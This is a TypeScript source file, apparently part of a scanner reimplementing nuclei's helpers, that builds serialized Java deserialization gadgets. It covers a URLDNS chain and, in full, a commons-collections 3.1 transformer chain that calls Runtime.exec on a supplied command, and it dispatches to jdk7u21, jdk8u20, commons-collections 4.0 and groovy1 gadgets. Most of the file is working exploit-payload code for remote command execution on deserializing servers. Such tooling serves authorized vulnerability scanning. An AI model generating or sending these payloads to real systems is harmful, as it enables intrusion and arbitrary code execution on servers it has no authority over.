/**
 * `generate_java_gadget(gadget, url or command, encoding)`: serialized Java objects that make a
 * deserializing server act, written with keyhole's own serialization writer, for each of nuclei's
 * gadgets:
 * - `dns`: the URLDNS chain of JDK classes (a HashMap whose key is a java.net.URL with no cached
 *   hash: reading the map hashes the URL, which resolves its host name);
 * - `commons-collections3.1`: a command run through commons-collections' transformers;
 * - `jdk7u21`, `jdk8u20`, `commons-collections4.0` (java-templates-gadgets.ts): a command run by a
 *   class keyhole writes, defined by a TemplatesImpl;
 * - `groovy1` (java-groovy-gadget.ts): a command run through Groovy closures.
 */
import { argumentError } from '../errors.js';
import { encodeGadget } from './gadget-encoding.js';
import { fixed, type HelperFunction } from './helper.js';
import { ClassFileError } from './java-class-file.js';
import { COMMONS_COLLECTIONS_3 as CC, JAVA } from './java-classes.js';
import { groovy1Gadget } from './java-groovy-gadget.js';
import { JavaObjectStream } from './java-serialization.js';
import { commonsCollections40Gadget, jdk7u21Gadget, jdk8u20Gadget } from './java-templates-gadgets.js';

/** The scheme and host name of a URL as Go's url.Parse gives them (scheme lowercased, no port). */
export function schemeAndHost(url: string): { scheme: string; host: string } | undefined {
  // Go refuses ASCII control characters anywhere in a URL
  if (/[\u0000-\u001f\u007f]/.test(url)) return undefined;
  const match = /^([A-Za-z][A-Za-z0-9+.-]*):(.*)$/s.exec(url);
  if (match === null) return { scheme: '', host: '' };
  const [, scheme = '', rest = ''] = match;
  if (!rest.startsWith('//')) return { scheme: scheme.toLowerCase(), host: '' };
  const authority = /^\/\/([^/?#]*)/.exec(rest)?.[1] ?? '';
  const hostPort = authority.slice(authority.lastIndexOf('@') + 1);
  const colon = hostPort.lastIndexOf(':');
  const host = colon >= 0 && /^:\d*$/.test(hostPort.slice(colon)) ? hostPort.slice(0, colon) : hostPort;
  return { scheme: scheme.toLowerCase(), host: host.replace(/^\[(.*)\]$/, '$1') };
}

/** URLDNS: reading it makes the JVM resolve the URL's host. */
export function urlDnsGadget(url: string): Buffer | undefined {
  const parsed = schemeAndHost(url);
  if (parsed === undefined) return undefined;
  const stream = new JavaObjectStream();
  stream.object(JAVA.hashMap).f32(0.75).i32(12);
  // HashMap.writeObject: the table's capacity and the number of entries
  stream.blockData((block) => block.i32(16).i32(1));
  // the key: hashCode -1 makes HashMap.readObject compute it, which resolves the host
  stream.object(JAVA.url).i32(-1).i32(-1);
  stream.string(parsed.host, true).string('').string(parsed.host, true).string(parsed.scheme).null();
  stream.endBlockData();
  stream.string(url);
  stream.endBlockData();
  return stream.toBuffer();
}

type Write = (stream: JavaObjectStream) => void;

/** `new InvokerTransformer(method, parameterTypes, args)`. */
function invoker(method: string, parameterTypes: readonly Write[], args: readonly Write[]): Write {
  return (stream) => {
    stream.object(CC.invokerTransformer);
    stream.array(JAVA.objectArray, args);
    stream.string(method);
    stream.array(JAVA.classArray, parameterTypes);
  };
}

const classOf =
  (descriptor: Parameters<JavaObjectStream['classObject']>[0]): Write =>
  (stream) =>
    stream.classObject(descriptor);

/**
 * commons-collections 3.1 (ysoserial's CommonsCollections6 shape): a HashSet holding a TiedMapEntry
 * over a LazyMap whose factory is the chain `Runtime.class` → `getMethod("getRuntime")` →
 * `invoke(null)` → `exec(command)`. Reading the set hashes the entry, which asks the lazy map for
 * its key, which runs the chain.
 */
export function commonsCollections31Gadget(command: string): Buffer {
  const stream = new JavaObjectStream();
  stream.object(JAVA.hashSet);
  // HashSet.writeObject: capacity, load factor, size
  stream.blockData((block) => block.i32(2).f32(0.75).i32(1));
  stream.object(CC.tiedMapEntry);
  stream.string('keyhole');
  stream.object(CC.lazyMap);
  stream.object(CC.chainedTransformer);
  stream.array(CC.transformerArray, [
    (s) => s.object(CC.constantTransformer).classObject(JAVA.runtime),
    invoker(
      'getMethod',
      [classOf(JAVA.string), classOf(JAVA.classArray)],
      [(s) => s.string('getRuntime'), (s) => s.array(JAVA.classArray, [])],
    ),
    invoker(
      'invoke',
      [classOf(JAVA.object), classOf(JAVA.objectArray)],
      [(s) => s.null(), (s) => s.array(JAVA.objectArray, [])],
    ),
    invoker('exec', [classOf(JAVA.string)], [(s) => s.string(command)]),
    (s) => s.object(CC.constantTransformer).object(JAVA.integer).i32(1),
  ]);
  // LazyMap.writeObject: the decorated map, empty
  stream.object(JAVA.hashMap).f32(0.75).i32(0);
  stream.blockData((block) => block.i32(16).i32(0));
  stream.endBlockData();
  stream.endBlockData();
  stream.endBlockData();
  return stream.toBuffer();
}

/** The gadgets that run a command, by nuclei's names. */
const COMMAND_GADGETS: Readonly<Record<string, (command: string) => Buffer>> = {
  'commons-collections3.1': commonsCollections31Gadget,
  'commons-collections4.0': commonsCollections40Gadget,
  jdk7u21: jdk7u21Gadget,
  jdk8u20: jdk8u20Gadget,
  groovy1: groovy1Gadget,
};

function commandGadget(build: (command: string) => Buffer, command: string): Buffer {
  try {
    return build(command);
  } catch (error) {
    if (error instanceof ClassFileError) throw argumentError('generate_java_gadget', error.message);
    throw error;
  }
}

export const javaGadgetFunctions: readonly HelperFunction[] = [
  fixed('generate_java_gadget', 3, (args) => {
    const [gadget, url, encoding] = args;
    if (typeof gadget !== 'string' || typeof url !== 'string' || typeof encoding !== 'string') {
      throw argumentError(
        'generate_java_gadget',
        'takes three strings: the gadget, its URL or command, the encoding',
      );
    }
    const build = Object.hasOwn(COMMAND_GADGETS, gadget) ? COMMAND_GADGETS[gadget] : undefined;
    if (build !== undefined) return encodeGadget(commandGadget(build, url), encoding);
    // nuclei gives an empty text for a gadget it does not know or a URL it cannot parse
    if (gadget !== 'dns') return '';
    const payload = urlDnsGadget(url);
    return payload === undefined ? '' : encodeGadget(payload, encoding);
  }),
];
